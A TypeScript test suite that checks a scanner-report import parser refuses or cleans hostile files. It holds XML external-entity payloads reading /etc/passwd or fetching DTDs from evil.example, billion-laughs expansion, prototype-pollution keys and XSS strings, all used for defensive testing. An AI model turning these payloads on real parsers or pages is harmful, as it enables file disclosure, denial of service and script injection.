import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { limits, ScanRefused, scanFormats } from '../../../../server/import/scan/finding.ts'
import { scanFormatOf, sheetColumns } from '../../../../server/import/scan/scan.ts'
import { cleanLine, cleanText, cweOf, htmlToText, markdownOf, proseOf, referencesOf } from '../../../../server/import/scan/text.ts'
import { bytes, file, read } from './support.ts'

const refusal = (message: RegExp) => (error: Error) => {
  assert.ok(error instanceof ScanRefused, `${error.name}: ${error.stack}`)
  assert.match(error.message, message)
  return true
}
/** What work costs, however busy the machine is. @unit milliseconds of the processor */
const cost = (work: () => void): number => {
  const start = process.cpuUsage()
  work()
  const { user, system } = process.cpuUsage(start)
  return (user + system) / 1_000
}
const zap = (inside: string, before = '') => bytes(`<?xml version="1.0"?>${before}<OWASPZAPReport><site name="s"><alerts><alertitem><pluginid>1</pluginid><alert>A</alert><riskcode>1</riskcode>${inside}</alertitem></alerts></site></OWASPZAPReport>`)
const burp = (doctype: string, name = 'n') => bytes(`<?xml version="1.0"?>${doctype}<issues><issue><type>1</type><name>${name}</name><host>h</host><severity>Low</severity></issue></issues>`)

describe('a hostile file', () => {
  const laughs = `<!DOCTYPE issues [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`
  const refused: [string, Uint8Array, RegExp][] = [
    ['that is empty', new Uint8Array(), /^The file is empty\.$/],
    ['of spaces', bytes(' \n\t '), /^The file is empty\.$/],
    ['of a mark alone', Buffer.from([0xef, 0xbb, 0xbf]), /^The file is empty\.$/],
    ['of 200 MB', new Uint8Array(200 * 1024 * 1024), /200 MB; at most 64 MB/],
    ['that is a ZIP', Buffer.concat([Buffer.from('PK\x03\x04'), deflateRawSync(Buffer.alloc(1_000_000))]), /ZIP archive or a workbook.*Unpack/],
    ['that is an empty ZIP', Buffer.from('PK\x05\x06'), /ZIP archive/],
    ['that is compressed', gzipSync(Buffer.alloc(1_000_000, 0x5b)), /compressed with gzip/],
    ['that is a PDF', bytes('%PDF-1.7'), /a PDF/],
    ['in UTF-16 of one order', Buffer.from(`\ufeff${file('shop-zap.xml').toString()}`, 'utf16le'), /UTF-16/],
    ['in UTF-16 of the other order', Buffer.from(`\ufeff${file('shop.json').toString()}`, 'utf16le').swap16(), /UTF-16/],
    ['in UTF-16 without a mark', Buffer.from(file('shop.csv').toString(), 'utf16le'), /zero byte on line 1/],
    ['in UTF-32', Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]), /UTF-16/],
    ['in Windows-1252', Buffer.from('title,severity\nx,low\ncaf\xe9,low', 'latin1'), /not UTF-8: line 3/],
    ['that says it is of another encoding', bytes('<?xml version="1.0" encoding="ISO-8859-1"?><issues><!-- é --></issues>'), /says it is ISO-8859-1/],
    ['with a zero byte', bytes('title,severity\nx\0,low'), /zero byte on line 2/],
    ['of bread of entities', burp(laughs, '&j;'), /DOCTYPE that may declare entities/],
    ['with one entity', burp('<!DOCTYPE issues [<!ENTITY x "y">]>', '&x;'), /DOCTYPE/],
    ['with an entity of a file', burp('<!DOCTYPE issues [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'), /DOCTYPE/],
    ['with an entity of parameters', burp('<!DOCTYPE issues [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'), /DOCTYPE/],
    ['with declarations from elsewhere', burp('<!DOCTYPE issues SYSTEM "http://evil.example/x.dtd">'), /DOCTYPE/],
    ['with declarations of the public', burp('<!DOCTYPE issues PUBLIC "x" "http://evil.example/x.dtd" []>'), /DOCTYPE/],
    ['with an entity hidden in a comment', burp('<!DOCTYPE issues [<!-- --><!ENTITY x "y">]>'), /DOCTYPE/],
    ['with endless declarations', burp(`<!DOCTYPE issues [${'<!ELEMENT a (b)>'.repeat(5_000)}]>`), /DOCTYPE/],
    ['with a harmless DOCTYPE where none belongs', zap('', '<!DOCTYPE OWASPZAPReport [<!ELEMENT a (b)>]>'), /line 1, column \d+: The file has a DOCTYPE/],
    ['with an entity nobody declared', zap('<desc>&xxe;</desc>'), /uses an entity that XML does not know/],
    ['with an entity of a prototype', zap('<desc>&constructor;</desc>'), /uses an entity/],
    ['with an element that never closes', bytes('<OWASPZAPReport>\n<site>'), /line 2, column 7: The file is not whole/],
    ['with elements that cross', zap('<a><b></a></b>'), /line 1, column \d+: The file is not well-formed XML/],
    ['with XML in depth', zap('<a>'.repeat(100_000)), /nested deeper than 64/],
    ['with attributes without end', zap(`<a ${Array.from({ length: 70 }, (_, index) => `a${index}="1"`).join(' ')}/>`), /more than 64 attributes/],
    ['with one attribute twice', zap('<a x="1" x="2"/>'), /not well-formed/],
    ['with a name without end', zap(`<${'a'.repeat(300)}/>`), /longer than 200/],
    ['with a character that XML does not allow', zap('<desc>&#1;</desc>'), /not well-formed/],
    ['with something before its first line', bytes('\n<?xml version="1.0"?><issues/>'), /before the first line/],
    ['of XML 1.1', bytes('<?xml version="1.1"?><issues/>'), /XML 1\.1|version number/],
    ['that is a web page', bytes('<!DOCTYPE html><html></html>'), /a web page/],
    ['of an unknown kind of XML', bytes('<report/>'), /outermost element is <report>/],
    ['of an older Nessus', bytes('<NessusClientData/>'), /outermost element is <NessusClientData>/],
    ['of one bracket without end', bytes('['.repeat(1_000_000)), /line 1, column 201: Values are nested deeper than 200/],
    ['of one brace without end', bytes('{"a":'.repeat(1_000_000)), /nested deeper than 200/],
    ['with a comma too many', bytes('{\n  "findings": [\n    {"title": "x",}\n  ]\n}'), /line 3, column 19: The file is not JSON/],
    ['that breaks off in a text', bytes('{"findings": [{"title": "x'), /line 1, column 27: The file is not whole/],
    ['with a row of separators', bytes(`title,severity\n${','.repeat(300_000)}`), /line 2: A line holds more than 200000 separators/],
    ['with a thousand columns', bytes(`title,severity${',x'.repeat(1_000)}\n`), /more than 500 cells/],
    ['with blank rows without end', bytes(`title,severity\n${',\n'.repeat(300_000)}`), /more than 200000 rows with nothing/],
    ['with elements without end', bytes(`<issues><issue>${'<a/>'.repeat(2_000_001)}</issue></issues>`), /more than 2000000 elements/],
    ['with a name of megabytes', bytes(`<issues><issue><name>${'\u202ex '.repeat(100_000)}</name><severity>?</severity></issue></issues>`), /^(?:x ?)+…, line 1: The severity "\?"/],
    ['with too many rows', bytes(`title,severity\n${'x,low\n'.repeat(50_001)}`), /more than 50000 rows/],
    ['with too many records', bytes({ findings: Array.from({ length: 50_001 }, () => ({ title: 'x', severity: 'low' })) }), /findings\[50000\]: The file holds more than 50000 records/],
    ['with a quote that swallows it', bytes(`title,severity\n"${'x\n'.repeat(2_500_000)}`), /longer than 4 MB|never closed/],
    ['of random letters', bytes('lorem ipsum dolor'), /neither XML, JSON, nor a sheet/],
  ]
  for (const [what, content, message] of refused) {
    it(`${what} is refused in time`, () => {
      const spent = cost(() => assert.throws(() => read(content), refusal(message)))
      assert.ok(spent < 5_000, `${Math.round(spent)} ms`)
    })
  }

  it('in JSON is refused at the character that is wrong', () => {
    const cases: [string, number][] = [
      ['{"findings": [}', 15], ['{"findings": 01}', 14], ['{"a": tru}', 7], ['{"a" 1}', 6], ['{a: 1}', 2], ['["a",]', 6], ['[1 2]', 4], ['["\\x"]', 3], ['["a\tb"]', 4], ['{}}', 3], ['[1]]', 4], ['{"a": [1, {"b": "c"]}', 20], ["['a']", 2], ['[NaN]', 2],
    ]
    for (const [text, column] of cases) assert.throws(() => read(bytes(text)), refusal(new RegExp(`^line 1, column ${column}: The file is not JSON`)), text)
    const good = '{"a": ["x\\u0041", -1.5e3, true, {"b": null}]}'
    for (let length = 1; length < good.length; length += 1) assert.throws(() => read(bytes(good.slice(0, length))), refusal(/^line 1, column \d+: The file is not (?:whole|JSON)/), good.slice(0, length))
    for (const cut of ['{', '{"a', '{"a":', '{"a": ["x', '{"a": [tr', '{"a": [1,', '{"a": [1']) assert.throws(() => read(bytes(cut)), refusal(new RegExp(`column ${cut.length + 1}: The file is not whole`)), cut)
  })

  it('is refused by every question that is asked of it', () => {
    for (const ask of [scanFormatOf, sheetColumns]) for (const content of [new Uint8Array(), gzipSync('x'), new Uint8Array(200 * 1024 * 1024)]) assert.throws(() => ask(content), ScanRefused)
  })

  it('reads nothing through a prototype and changes none', () => {
    const scan = read(bytes('{"__proto__":{"runs":[]},"constructor":{"prototype":{"polluted":1}},"findings":[{"title":"x","__proto__":{"severity":"critical","polluted":1},"constructor":"y","toString":"z"}]}'))
    assert.equal(scan.findings[0]!.severity, 'info')
    assert.equal(({} as { polluted?: number }).polluted, undefined)
    assert.equal(read(bytes('__proto__,title,severity,constructor\na,x,low,b')).findings.length, 1)
    assert.equal(read(zap('<desc>d</desc>').subarray(0)).findings.length, 1)
    const rule = bytes({ version: '2.1.0', runs: [{ tool: { driver: { name: 'L' } }, results: [{ ruleId: '__proto__', message: { id: 'constructor', text: '' }, partialFingerprints: JSON.parse('{"__proto__":"x"}') as unknown }, { ruleId: 'toString', message: { text: 'm' } }] }] })
    assert.equal(read(rule).findings.length, 2)
  })

  it("takes the description of elements that Burp writes at the top of its own reports", () => {
    assert.equal(read(burp('<!DOCTYPE issues [\n<!ELEMENT issues (issue*)>\n<!ATTLIST issues burpVersion CDATA "">\n]>')).findings.length, 1)
  })

  it('is cut to size where it is long, and says how much there was', () => {
    const scan = read(bytes({ findings: [{ title: 'T'.repeat(5_000), severity: 'low', description: 'd'.repeat(500_000), evidence: 'e'.repeat(500_000), urls: Array.from({ length: 900 }, (_, index) => `https://x.example/${index}`), references: Array.from({ length: 400 }, (_, index) => `https://r.example/${index}`) }] }))
    const [finding] = scan.findings
    assert.deepEqual(
      [finding!.title.length, finding!.description.length, finding!.evidence[0]!.text.length, finding!.locations.length, finding!.locationCount, finding!.references.length],
      [limits.title, limits.text, limits.evidenceText, limits.locations, 900, limits.references],
    )
    const message = bytes({ version: '2.1.0', runs: [{ tool: { driver: { name: 'L' } }, results: [{ ruleId: 'R', message: { text: '{0}'.repeat(5_000), arguments: ['x'.repeat(100_000)] } }] }] })
    assert.ok(read(message).findings[0]!.description.length <= limits.text)
  })

  it('with answers of megabytes in base64 keeps the beginning of each', () => {
    const body = Buffer.alloc(8_000_000, 'GET / ').toString('base64')
    const scan = read(bytes(`<issues><issue><type>1</type><name>n</name><host>h</host><severity>Low</severity><requestresponse><request base64="true">${body}</request></requestresponse></issue></issues>`))
    assert.equal(scan.findings[0]!.evidence[0]!.text.length, limits.evidenceText)
  })

  it('gives texts without scripts, control characters or turned directions, whatever field they come in', () => {
    const nasty = 'a\u0000\u0007\u202eb\u2066c\ud800d\r\ne\u{e0041}'
    const scan = read(bytes({ findings: [{ title: nasty, severity: 'low', description: `<p>${nasty}</p><script>alert(1)</script>`, impact: nasty, mitigation: nasty, url: nasty, host: nasty, evidence: nasty, references: [nasty, 'javascript:alert(1)', 'JAVA\tSCRIPT:alert(1)', 'data:text/html,x'] }] }))
    const [finding] = scan.findings
    assert.equal(finding!.title, 'abc\ufffdd e')
    assert.equal(finding!.description, 'abc\ufffdd\ne')
    assert.doesNotMatch(JSON.stringify(finding), /\\u0000|\\u0007|[\u202a-\u202e\u2066-\u2069]|\\ud800|alert\(1\)/)
  })
})

describe('HTML of a scanner', () => {
  const cases: [string, string, string][] = [
    ['paragraphs and breaks', '<p>One</p><p>Two<br>Three<br/>Four</p>', 'One\n\nTwo\nThree\nFour'],
    ['lists', '<ul><li>One</li><li>Two</li></ul>After', '- One\n- Two\n\nAfter'],
    ['links', '<a href="https://a.example/x?a=1&amp;b=2">here</a> <a href="javascript:alert(1)">there</a>', 'here (https://a.example/x?a=1&b=2) there'],
    ['scripts and styles', 'a<script src=x>alert("</p>")</script>b<style>p{}</style>c<SCRIPT>x</SCRIPT >d', 'abcd'],
    ['a script that never closes', 'a<script>b<b>c</b>', 'abc'],
    ['frames and pictures', 'a<iframe src=x>y</iframe>b<img src=x onerror=alert(1)>c<svg onload=alert(1)><p>z</p></svg>d', 'abcd'],
    ['entities', '<b>&lt;b&gt; &amp;amp; &#65;&#x42;&nbsp;&unknown; &#0; &#xd800;</b>', '<b> &amp; AB &unknown;'],
    ['comments', 'a<!-- <p>x</p> -->b<!-- open', 'ab'],
    ['a text that holds a smaller-than', 'if <foo> then 1 < 2 <b>bold</b>', 'if <foo> then 1 < 2 bold'],
  ]
  for (const [what, html, text] of cases) it(`becomes plain text: ${what}`, () => assert.equal(cleanText(htmlToText(html)), text))

  it('is left alone in a text that is not marked up', () => {
    assert.equal(proseOf('The <script> tag is let through, and so is &lt;.'), 'The <script> tag is let through, and so is &lt;.')
    assert.equal(proseOf('1 < 2 && 3 > 2 <T>'), '1 < 2 && 3 > 2 <T>')
  })

  it('never holds the tag of a script afterwards, unless it was written as text', () => {
    const parts = fc.constantFrom('<script>', '</script>', '<p>', '<', '>', '<scr', 'ipt>', 'a', '<img onerror=x>', '<!--', '-->', ' ', '<b', '/>', '"')
    fc.assert(fc.property(fc.array(parts, { maxLength: 40 }), (some) => {
      const once = htmlToText(some.join(''))
      assert.doesNotMatch(once, /<(?:p|img)(?:\s[^<>]*)?>/)
    }), { numRuns: 500 })
  })

  it('costs no more than its length, however it is built', () => {
    for (const piece of ['<', '<a ', '<p', '<!--', '&', '&#', '<script>', '<a href="', '<b>', '</', '\n \n', '<!-- -->']) {
      const spent = cost(() => {
        proseOf(piece.repeat(300_000))
        referencesOf(piece.repeat(300_000))
      })
      assert.ok(spent < 3_000, `${piece}: ${Math.round(spent)} ms`)
    }
  })
})

describe('texts and names of a scanner', () => {
  it('CWE is read from every way it is written, and from no placeholder', () => {
    assert.deepEqual(cweOf('79', 352, 'CWE-89: x', 'external/cwe/cwe-022', 'CWE:20', 'CWE #310', '0', '-1', 'N/A', ''), [20, 22, 79, 89, 310, 352])
  })

  it('mean nothing in Markdown', () => {
    assert.equal(markdownOf('# x\n![p](https://evil.example/p.png) *b* `c` <b> a|b &amp; ~~s~~ c:\\d'), '\\# x\n!\\[p\\](https://evil.example/p.png) \\*b\\* \\`c\\` \\<b\\> a\\|b \\&amp; \\~\\~s\\~\\~ c:\\\\d')
    assert.equal(markdownOf('- one\n- two\n---\n1. x\n+ y\n===\n    z\n10.1.1.1'), '- one\n- two\n\\---\n1\\. x\n\\+ y\n\\===\n\u00a0\u00a0\u00a0\u00a0z\n10\\.1.1.1')
    fc.assert(fc.property(fc.string({ unit: 'grapheme' }).filter((text) => !/^[ \t]{4,}/m.test(text)), (text) => {
      assert.equal(markdownOf(text).replaceAll(/\\([!-/:-@[-`{-~])/g, '$1'), text)
    }))
  })

  it('say how many remarks there were where not all are kept', () => {
    const scan = read(bytes({ findings: Array.from({ length: 300 }, (_, index) => ({ title: `t${index}` })) }))
    assert.deepEqual([scan.remarks.length, scan.remarkCount], [limits.remarks, 300])
  })

  it('cleaning twice is cleaning once, and no longer than allowed', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.integer({ min: 5, max: 50 }), (text, most) => {
      for (const clean of [(each: string) => cleanText(each, most), (each: string) => cleanLine(each, most)]) {
        const once = clean(text)
        assert.ok(once.length <= most && once.isWellFormed())
        assert.equal(clean(once), once)
      }
    }))
  })
})

describe('random bytes', () => {
  const options = { columns: {}, target: 't' }
  const whole = (content: Uint8Array) => {
    for (const format of [undefined, ...scanFormats]) {
      try {
        const scan = read(content, { ...options, format })
        assert.ok(scan.findings.every(({ title, key }) => title !== '' && /^[0-9a-f]{40}$/.test(key)))
      } catch (error) {
        assert.ok(error instanceof ScanRefused, `${(error as Error).stack}`)
        assert.ok(error.faults.length > 0 && error.message !== '')
      }
    }
  }

  it('are read or refused, nothing else', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), whole), { numRuns: 300 })
  })

  it('after the beginning of a file are read or refused, nothing else', () => {
    const heads = ['<?xml version="1.0"?><issues>', '<OWASPZAPReport><site name="x">', '<NessusClientData_v2>', '{"version":"2.1.0","runs":', '{"findings":[', '[{"title":', '{"SchemaVersion":2,"Results":', 'title,severity\n', 'Plugin ID,Name,Host,Risk\n']
    fc.assert(fc.property(fc.constantFrom(...heads), fc.string({ unit: 'binary', maxLength: 120 }), (head, rest) => whole(Buffer.from(head + rest))), { numRuns: 300 })
  })

  const samples = ['shop.sarif', 'shop.nessus', 'shop-nessus.csv', 'shop-zap.xml', 'shop-nuclei.jsonl', 'shop-burp.xml', 'shop-trivy.json', 'shop.csv', 'shop.json'].map(file)
  it('in the midst of a good file are read or refused, nothing else', () => {
    fc.assert(
      fc.property(fc.constantFrom(...samples), fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 6 }), (sample, changes) => {
        const copy = Uint8Array.from(sample)
        for (const [at, byte] of changes) copy[at % copy.length] = byte
        whole(copy)
      }),
      { numRuns: 300 },
    )
  })

  const junk = fc.oneof(fc.constant(null), fc.integer(), fc.string(), fc.boolean(), fc.constant([]), fc.constant({}), fc.constant([[]]), fc.constant([null]), fc.constant({ text: {} }))
  const paths = (value: unknown, path: string[] = []): string[][] =>
    typeof value === 'object' && value !== null ? [path, ...Object.entries(value).flatMap(([key, inner]) => paths(inner, [...path, key]))] : [path]
  for (const name of ['shop.sarif', 'shop-trivy.json', 'shop.json']) {
    const text = file(name).toString()
    const places = paths(JSON.parse(text)).filter((path) => path.length > 0)
    it(`a value of the wrong kind anywhere in ${name} is read or refused, nothing else`, () => {
      fc.assert(
        fc.property(fc.constantFrom(...places), junk, (path, value) => {
          const root = JSON.parse(text) as Record<string, unknown>
          let at = root
          for (const key of path.slice(0, -1)) at = at[key] as Record<string, unknown>
          at[path.at(-1)!] = value
          whole(bytes(root))
        }),
        { numRuns: 300 },
      )
    })
  }
})
